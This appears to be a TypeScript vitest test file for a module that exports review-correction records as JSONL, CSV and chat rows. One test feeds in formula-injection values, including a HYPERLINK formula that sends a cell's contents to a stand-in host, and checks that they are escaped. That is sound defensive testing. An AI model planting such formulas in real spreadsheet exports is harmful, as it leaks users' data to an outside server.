import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, exportHeader, exportRow, type CorrectionRow } from "./export-formats.js";

const row: CorrectionRow = {
  escalationId: "e1",
  labelId: null,
  kind: "escalate",
  runId: "r1",
  stepId: "s1",
  workflow: "claims",
  version: "1",
  step: "extract",
  input: { body: 'Quote "1,850", line\nbreak' },
  output: { amount: 1800 },
  corrected: { amount: 1850 },
  decision: "correct",
  confidence: 0.42,
  alternatives: [{ amount: 1850 }],
  reviewer: "user:u1",
  reason: null,
  createdAt: "2025-01-01T00:00:00.000Z",
  resolvedAt: "2025-01-01T00:05:00.000Z",
};

describe("export formats", () => {
  it("JSONL rows parse back to the row", () => {
    expect(JSON.parse(exportRow("jsonl", row))).toEqual(row);
  });
  it("CSV rows with quotes, commas and newlines parse back under the header", () => {
    const text = exportHeader("csv") + exportRow("csv", row) + exportRow("csv", { ...row, escalationId: "e2", confidence: null });
    const records = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(records[0]!)).toEqual([...CSV_COLUMNS]);
    expect(JSON.parse(records[0]!.input!)).toEqual(row.input);
    expect(JSON.parse(records[0]!.corrected!)).toEqual(row.corrected);
    expect(records[0]!.confidence).toBe("0.42");
    expect(records[1]!.confidence).toBe("");
    expect(records[0]!.labelId).toBe("");
  });
  it("CSV text cells that a spreadsheet would run as formulas get a leading quote; JSON cells stay JSON", () => {
    const hostile = { ...row, workflow: '=HYPERLINK("http://x/?"&A2,"x")', step: "+cmd", reason: "@SUM(1)", output: -5, corrected: { amount: -1 } };
    const [record] = parse(exportHeader("csv") + exportRow("csv", hostile), { columns: true }) as Array<Record<string, string>>;
    expect(record!.workflow).toBe(`'${hostile.workflow}`);
    expect(record!.step).toBe("'+cmd");
    expect(record!.reason).toBe("'@SUM(1)");
    expect(JSON.parse(record!.output!)).toBe(-5);
    expect(JSON.parse(record!.corrected!)).toEqual({ amount: -1 });
  });
  it("CSV keeps a JSON null apart from an absent value", () => {
    const text = exportHeader("csv") + exportRow("csv", { ...row, decision: "reject", corrected: null, alternatives: null, reason: null });
    const [record] = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(record!.corrected).toBe("null");
    expect(record!.alternatives).toBe("null");
    expect(record!.reason).toBe("");
  });
  it("chat rows answer with the corrected output, and a rejection yields no row", () => {
    const chat = JSON.parse(exportRow("chat", row)) as { messages: Array<{ role: string; content: string }> };
    expect(chat.messages.map((m) => m.role)).toEqual(["system", "user", "assistant"]);
    expect(JSON.parse(chat.messages[2]!.content)).toEqual(row.corrected);
    expect(exportRow("chat", { ...row, decision: "reject" })).toBe("");
  });
});
